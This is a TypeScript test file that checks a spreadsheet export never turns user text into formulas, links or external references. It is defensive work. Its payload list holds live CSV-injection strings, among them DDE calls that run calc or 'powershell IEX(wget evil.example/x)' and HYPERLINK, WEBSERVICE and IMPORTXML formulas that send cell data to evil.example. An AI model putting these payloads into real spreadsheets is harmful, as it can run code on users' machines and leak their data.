import { expect, test } from 'vitest';
import { cellText } from '../../electron/jobs/cellText.ts';
import { readWorkbook } from '../../electron/jobs/readWorkbook.ts';
import { runJob } from '../../electron/jobs/runJob.ts';
import type { SheetPlan } from '../../electron/jobs/workbookPlan.ts';
import { writeWorkbook } from '../../electron/jobs/writeWorkbook.ts';
import { inventedOffice } from '../../electron/services/demo/inventedChildren.ts';
import { createJobRegistry } from '../../electron/services/jobs/createJobRegistry.ts';
import { createListService } from '../../electron/services/lists/createListService.ts';
import { villageTable } from '../../electron/services/office/officeStore.ts';
import type { FieldContext } from '../../shared/fields/kinds.ts';
import { child } from '../../shared/registers/child.ts';
import type { RecordValues } from '../../shared/registers/register.ts';
import { openExports } from '../exportDesk.ts';
import { convert, libreOfficeMissing, parseCsv } from '../fixtures/workbooks/libreOffice.ts';
import { unzipWorkbook } from '../fixtures/workbooks/unzipWorkbook.ts';
import { deskContext, openRegisterDesk } from '../unit/services/registerDesk.ts';
import { tellFigure } from './figure.ts';

/** What begins a formula, starts a program or leaves the file in some spreadsheet program (OWASP, CSV injection). */
const payloads = [
  '=1+1',
  '==1+1',
  '=A1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/x)'!A1",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '=HYPERLINK("file:///c:/windows/system32/calc.exe")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=IMAGE("http://evil.example/a.png")',
  "='file:///etc/passwd'#$passwd.A1",
  "='\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1",
  '=INDIRECT("A1")',
  '=EXEC("calc")',
  '=CALL("Kernel32","WinExec","JCJ","calc",0)',
  '=REGISTER.ID("kernel32","WinExec")',
  '{=1+1}',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+8613800000000',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1',
  ';=1+1',
  ',=1+1',
  '_x003D_1+1',
  '&#61;1+1',
  '</t></is></c><c r="B1"><f>1+1</f></c>',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '%0A=1+1',
] as const;

/** Every text that a plan can hold carries a payload. */
const plan: SheetPlan = {
  name: '=1+1',
  above: payloads,
  columns: payloads.map((heading) => ({ heading, width: 10 })),
  rows: payloads.map((text) => [text, { text, tone: 'error', reason: text }]),
  landscape: false,
  foot: '',
};
const workbook = writeWorkbook({ sheets: [plan, ...payloads.map((name) => ({ ...plan, name, above: [], rows: [] }))] });
const expectedRows: readonly (readonly string[])[] = [
  ...payloads.map((line) => [cellText(line)]),
  payloads.map(cellText),
  ...payloads.map((text) => [cellText(text), cellText(text)]),
];

test('c30: no part of a written workbook holds a formula, a link or a foreign name', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(40);
  const parts = unzipWorkbook(workbook);
  const worksheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
  expect(worksheets).toHaveLength(payloads.length + 1);
  for (const [name, content] of worksheets) {
    expect(content, name).not.toMatch(/<f[ >/]|<hyperlink|<dataValidation|<conditionalFormatting/u);
    // Filled cells point to a shared text, empty ones hold nothing.
    for (const [cell, type] of content.matchAll(/<c r="[A-Z]+\d+" s="\d+"( t="s")?(?:\/>|><v>\d+<\/v><\/c>)/gu)) {
      expect(type === undefined, cell).toBe(cell.endsWith('/>'));
    }
    expect(content.replaceAll(/<c r="[A-Z]+\d+" s="\d+"( t="s")?(?:\/>|><v>\d+<\/v><\/c>)/gu, '')).not.toContain('<c ');
  }
  const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/<definedName name="([^"]*)"/gu)];
  expect(new Set(names.map(([, name]) => name))).toEqual(new Set(['_xlnm._FilterDatabase', '_xlnm.Print_Titles']));
  expect([...parts.keys()].filter((name) => /external|vba|embed|activex|connections|calcChain/iu.test(name))).toEqual(
    [],
  );
  expect([...parts].filter(([name, content]) => name.endsWith('.rels') && content.includes('TargetMode'))).toEqual([]);
});

test('c30: every payload comes back as the text it was, in every place', async () => {
  const { sheets } = await readWorkbook(workbook);
  const [sheet] = sheets;
  expect(new Set(sheets.map(({ name }) => name)).size).toBe(payloads.length + 1);
  expect(sheet?.rows.map(({ cells }) => cells.map((cell) => cell?.text))).toEqual(expectedRows);
  expect(new Set(sheet?.rows.flatMap(({ cells }) => cells.map((cell) => cell?.kind)))).toEqual(new Set(['text']));
});

/** A child each of whose texts is the payload, as far as the register takes it. */
function childOf(text: string, number: number): RecordValues {
  const context: FieldContext = { today: '2026-11-21', villages: villageTable(inventedOffice) };
  const fields = Object.fromEntries(
    Object.entries(child.fields).map(([key, { kind }]) => {
      const tidied = kind.parse([...text].slice(0, kind.maxLength ?? 1).join(''), context);
      const taken =
        kind.sql === 'TEXT' &&
        kind.options === undefined &&
        kind.schema.safeParse(tidied).success &&
        kind.check(String(tidied), context) === undefined;
      return [key, taken ? String(tidied) : (child.sample.fields[key] ?? null)];
    }),
  );
  const name = `敌意文本${'甲乙丙丁戊己庚辛壬癸'.charAt(Math.floor(number / 10))}${'甲乙丙丁戊己庚辛壬癸'.charAt(number % 10)}`;
  return { ...child.sample, fields: { ...fields, name, id_number: null, no_id_reason: '1' } };
}

test('c30: a payload in every text of a child stays text in the exported list', async (context) => {
  const { database, service } = openRegisterDesk();
  const files: Uint8Array[] = [];
  const leaving = openExports({
    database: () => database,
    saveFile: async (name, bytes) => {
      files.push(bytes);
      return name;
    },
  });
  const lists = createListService({
    registers: service,
    registerOf: () => child,
    databaseOf: () => database,
    context: () => deskContext,
    user: () => '周敏',
    now: () => new Date('2026-11-21T01:00:00Z'),
    runJob,
    jobs: createJobRegistry(),
    exports: leaving.exports,
  });
  service.insertMany(child, payloads.map(childOf));
  const query = { register: 'child', search: '', filters: {}, sort: { field: 'name', descending: false } };
  const input = { register: 'child', selection: { query }, columns: 'all', numbers: 'full' } as const;
  const permit = await leaving.permit({ method: 'list.export', ...input }, '=1+1');
  await lists.exportList({ ...input, permit });
  const parts = unzipWorkbook(files[0] ?? new Uint8Array());
  const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
  expect(sheets.length).toBeGreaterThan(0);
  for (const [, content] of sheets) expect(content).not.toMatch(/<f[ >/]|<hyperlink/u);
  const { sheets: read } = await readWorkbook(files[0] ?? new Uint8Array());
  const kinds = new Set(read.flatMap(({ rows }) => rows.flatMap(({ cells }) => cells.map((cell) => cell?.kind))));
  kinds.delete(undefined);
  expect(kinds).toEqual(new Set(['text']));
  const cells = read.flatMap(({ rows }) => rows.flatMap((row) => row.cells)).filter((cell) => cell !== null);
  const dangerous = cells.filter((cell) => /^[=+\-@＝＋－＠]/u.test(cell?.text ?? '')).length;
  expect(dangerous).toBeGreaterThan(payloads.length);
  tellFigure(context, `${payloads.length} payloads, ${dangerous} cells that begin like a formula, 0 formulas`);
});

test('c30: LibreOffice finds no formula and the same texts', (context) => {
  if (libreOfficeMissing) context.skip(libreOfficeMissing);
  const document = convert(workbook, 'fods');
  expect(document).toContain('office:value-type="string"');
  expect(document).not.toContain('table:formula');
  expect(new Set(document.match(/office:value-type="\w+"/gu))).toEqual(new Set(['office:value-type="string"']));
  const rows = parseCsv(convert(workbook, 'csv'));
  for (const [index, cells] of expectedRows.entries()) expect(rows[index]?.slice(0, cells.length)).toEqual(cells);
}, 120_000);
